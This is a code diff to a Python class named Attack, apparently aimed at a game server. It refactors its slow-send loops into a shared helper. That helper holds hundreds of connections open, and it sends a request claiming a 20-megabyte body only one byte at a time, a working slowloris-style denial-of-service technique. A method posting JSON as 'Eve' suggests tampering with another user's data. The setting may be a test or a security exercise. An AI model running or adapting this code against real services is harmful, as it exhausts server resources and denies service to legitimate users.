@@ -115,11 +115,7 @@ class Attack:
             writer = (await self.connect())[1]
             self.done += 1
             writer.write(halves[place % 2])
-            while self.goes_on() and not writer.is_closing():
-                await asyncio.sleep(1.0)
-                writer.write(b"x")
-                await writer.drain()
-            writer.transport.abort()
+            await self._trickle(writer, every=1.0)
 
         await self.many(1000, one)
 
@@ -134,13 +130,17 @@ class Attack:
                 f"Cookie: {cookie}\r\nContent-Length: 20000000\r\n\r\nx".encode()
             )
             self.done += 1
-            while self.goes_on() and not writer.is_closing():
-                await asyncio.sleep(0.5)
-                writer.write(b"x")
-                await writer.drain()
-            writer.transport.abort()
+            await self._trickle(writer, every=0.5)
 
         await self.many(12, one)
+
+    async def _trickle(self, writer: asyncio.StreamWriter, every: float) -> None:
+        """A byte now and then, until it is cut or time is up."""
+        while self.goes_on() and not writer.is_closing():
+            await asyncio.sleep(every)
+            writer.write(b"x")
+            await writer.drain()
+        writer.transport.abort()
 
     async def _own_table(self) -> tuple[str, str]:
         body = b'{"name":"Eve","set_up":{"decks":["placeholder"]}}'
